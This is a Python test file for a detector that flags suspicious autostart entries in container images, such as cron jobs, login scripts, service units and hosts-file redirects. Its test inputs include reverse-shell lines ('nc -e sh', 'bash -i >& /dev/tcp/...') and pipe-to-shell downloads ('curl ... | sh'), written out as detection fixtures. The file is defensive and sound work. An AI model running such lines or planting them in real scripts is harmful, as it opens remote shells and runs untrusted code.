"""Of what starts by itself only lines with a sign are kept, and nothing of other files."""

import time

import pytest

from ocianalyze.detectors.autostart import HOSTS, NAME, OBSERVER, SERVICE, kind_of, signs
from tests.images import Layer, image


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("etc/cron.d/x", "cron job"),
        ("var/spool/cron/crontabs/root", "cron job"),
        ("home/x/.bashrc", "login script"),
        ("etc/systemd/system/x.service.d/o.conf", "unit"),
        ("usr/lib/modules/6.1/x.ko", "kernel module"),
        ("usr/lib/modules/6.1/modules.dep", ""),
        ("etc/passwd", ""),
        ("srv/etc/cron.d/x", ""),
    ],
)
def test_a_place_says_what_starts_a_file(path: str, kind: str) -> None:
    assert kind_of(path) == kind


def _told(path: str, text: bytes) -> list[tuple[int, str]]:
    layer: Layer = {path: text}
    found = image(layer, observers=(OBSERVER,)).tree.observations(NAME)
    return [(sign.line, sign.what) for _, value in found for sign in signs(value)]


def test_nothing_is_kept_of_a_file_without_a_sign() -> None:
    layer: Layer = {"etc/cron.d/x": b"@daily root true\n", "etc/hosts": b"127.0.0.1 localhost\n"}
    assert not list(image(layer, observers=(OBSERVER,)).tree.observations(NAME))


def test_lines_of_signs_are_told_in_their_order() -> None:
    text = b"x\nnc -e sh 10.0.0.1 1\n\ncurl -s a.example | sh\n"
    assert _told("etc/crontab", text) == [
        (2, "a shell answers a network"),
        (4, "a download is run by a shell"),
    ]


@pytest.mark.parametrize(
    ("line", "lines"),
    [
        (b"10.0.0.1 a.example", [1]),
        (b"2001:db8::1 a.example b.example", [1]),
        (b"127.0.0.1 a.example", []),
        (b"10.0.0.1 db", []),
        (b"10.0.0.1 x.localdomain", []),
        (b"# 10.0.0.1 a.example", []),
        (b"no-address a.example", []),
        (b"\xff\xfe a.example", []),
        (b"10.0.0.1", []),
    ],
)
def test_names_of_a_network_sent_elsewhere_are_signs(line: bytes, lines: list[int]) -> None:
    assert [number for number, _ in _told("etc/hosts", line + b"\n")] == lines


@pytest.mark.parametrize(
    ("line", "is_sign"),
    [
        (b"curl https://a.example | python3", True),
        (b"curl https://a.example | python3 - --now", True),
        (b"curl https://a.example | python3 -m json.tool", False),
        (b"curl https://a.example | perl -ne 'print'", False),
        (b"# install it with: curl https://a.example | bash", False),
        (b". <(curl https://a.example)", True),
        (b"base64 -di /x | sh", True),
        (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", True),
        (b"timeout 1 bash -c '</dev/tcp/db/5432'", False),
        (b"(echo > /dev/tcp/$HOST/$PORT) 2>/dev/null", False),
    ],
)
def test_what_honest_scripts_do_is_no_sign(line: bytes, is_sign: bool) -> None:  # noqa: FBT001 - a row of the table
    assert bool(_told("etc/profile.d/x.sh", b"#!/bin/sh\n" + line + b"\n")) is is_sign


def test_blanks_behind_many_downloads_cost_no_square() -> None:
    text = (b"curl " * 50 + b"|" + b" " * 3_000) * 70
    start = time.process_time()
    assert not _told("etc/crontab", text)
    assert time.process_time() - start < 1


def test_a_long_file_is_read_to_a_bound() -> None:
    assert _told("etc/crontab", b"x " * 300_000 + b"\ncurl a.example | sh\n") == []


def test_a_kernel_module_is_not_read() -> None:
    assert _told("usr/lib/modules/6.1/x.ko", b"curl a.example | sh\n") == []


@pytest.mark.parametrize(
    "address", ["0.0.0.0", "127.0.0.1", "127.0.0.53", "::", "::1", "::ffff:127.0.0.1"]
)
def test_a_list_of_names_to_block_sends_none_elsewhere(address: str) -> None:
    layer: Layer = {HOSTS: f"{address} ads.a.example tracker.b.example\n".encode() * 500}
    assert not list(image(layer, observers=(OBSERVER,)).tree.observations(NAME))


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("etc/services.d/web/run", SERVICE),
        ("etc/s6-overlay/s6-rc.d/web/up", SERVICE),
        ("etc/s6-overlay/s6-rc.d/web/type", ""),
        ("etc/service/web/log/run", SERVICE),
        ("etc/cont-init.d/10-x", SERVICE),
        ("etc/supervisor/conf.d/x.conf", SERVICE),
        ("docker-entrypoint.d/10-x.sh", SERVICE),
        ("docker-entrypoint-initdb.d/x.sql", SERVICE),
        ("opt/run", ""),
    ],
)
def test_supervisors_and_entry_points_start_files(path: str, kind: str) -> None:
    assert kind_of(path) == kind
